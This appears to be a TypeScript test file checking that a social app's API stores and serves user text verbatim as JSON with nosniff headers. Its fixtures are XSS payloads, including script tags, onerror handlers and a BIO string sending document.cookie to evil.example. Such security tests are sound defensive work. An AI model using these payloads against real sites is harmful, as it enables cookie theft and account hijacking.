/**
 * Whisp text, display names and bios are stored and served as the member typed them, as JSON
 * strings: no HTML escaping or stripping on the server (escaping is the renderer's job, and React
 * renders text; packages/ui uses no dangerouslySetInnerHTML). A server that escaped would corrupt
 * text and tempt a client to render it as HTML. See docs/security.md.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type TestApp } from '../helpers.js';
import { registerMember, type TestMember } from '../members.js';

// Markup, an event handler, entities that must stay literal, quotes, a closing tag that ends an
// inline <script> block, JavaScript's line separators, and right-to-left override.
const WHISP = `<script>alert("whisp")</script> <img src=x onerror=alert(1)> &lt;b&gt; &amp; "q" 'q' </script><!-- #xss \u2028\u2029 \u202e`;
const DISPLAY_NAME = `<img src=x onerror=alert('name')>`;
const BIO = `<script>document.location='https://evil.example/?c='+document.cookie</script> & "bio"`;

describe('text stays text', () => {
  let testApp: TestApp;
  let author: TestMember;
  let reader: TestMember;
  let postId: string;

  beforeAll(async () => {
    testApp = await createTestApp();
    const { app } = testApp;
    author = await registerMember(app, { display_name: DISPLAY_NAME, bio: BIO });
    reader = await registerMember(app);
    await app.inject({
      method: 'POST',
      url: `/api/users/${author.id}/follow`,
      headers: reader.headers,
    });
    const post = await app.inject({
      method: 'POST',
      url: '/api/posts',
      headers: author.headers,
      payload: { content: WHISP },
    });
    expect(post.statusCode, post.body).toBe(201);
    postId = post.json().data.id;
  });
  afterAll(() => testApp.close());

  const read = async (url: string) => {
    const response = await testApp.app.inject({ method: 'GET', url, headers: reader.headers });
    expect(response.statusCode, `${url}: ${response.body}`).toBe(200);
    // JSON, never a page: a browser opening this URL shows the text and runs nothing.
    expect(response.headers['content-type']).toBe('application/json; charset=utf-8');
    expect(response.headers['x-content-type-options']).toBe('nosniff');
    return response.json();
  };

  it('serves the whisp byte for byte wherever it appears', async () => {
    const places = {
      'the whisp': (await read(`/api/posts/${postId}`)).data,
      'the following feed': (await read('/api/posts/following')).posts[0],
      'the public feed': (await read('/api/posts/public')).posts[0],
      'the profile tab': (await read(`/api/users/${author.id}/posts?tab=posts`)).posts[0],
      'the hashtag search': (await read('/api/search/hashtag/xss')).data.posts[0],
    };
    for (const [place, post] of Object.entries(places)) {
      expect(post?.content, place).toBe(WHISP);
      expect(post?.author.display_name, place).toBe(DISPLAY_NAME);
    }
  });

  it('serves the display name and bio byte for byte on the profile and to the member', async () => {
    const profile = (await read(`/api/users/${author.id}`)).data;
    expect(profile.display_name).toBe(DISPLAY_NAME);
    expect(profile.bio).toBe(BIO);

    const me = await testApp.app.inject({
      method: 'GET',
      url: '/api/users/me',
      headers: author.headers,
    });
    expect(me.json().data).toMatchObject({ display_name: DISPLAY_NAME, bio: BIO });
    const followed = (await read(`/api/users/${reader.id}/following`)).data[0];
    expect(followed.display_name).toBe(DISPLAY_NAME);
  });

  it('keeps an edit, a profile update and a direct message as typed too', async () => {
    const edited = `${WHISP} (edited)`;
    const edit = await testApp.app.inject({
      method: 'POST',
      url: `/api/posts/${postId}`,
      headers: author.headers,
      payload: { content: edited },
    });
    expect(edit.json().data.content).toBe(edited);

    const newBio = '<b onmouseover="alert(1)">hi</b>';
    const update = await testApp.app.inject({
      method: 'POST',
      url: '/api/users/me',
      headers: author.headers,
      payload: { bio: newBio },
    });
    expect(update.json().user.bio).toBe(newBio);

    const message = await testApp.app.inject({
      method: 'POST',
      url: '/api/messages',
      headers: reader.headers,
      payload: { recipient_id: author.id, content: WHISP },
    });
    expect(message.statusCode, message.body).toBe(201);
    expect(message.json().data.content).toBe(WHISP);
  });
});
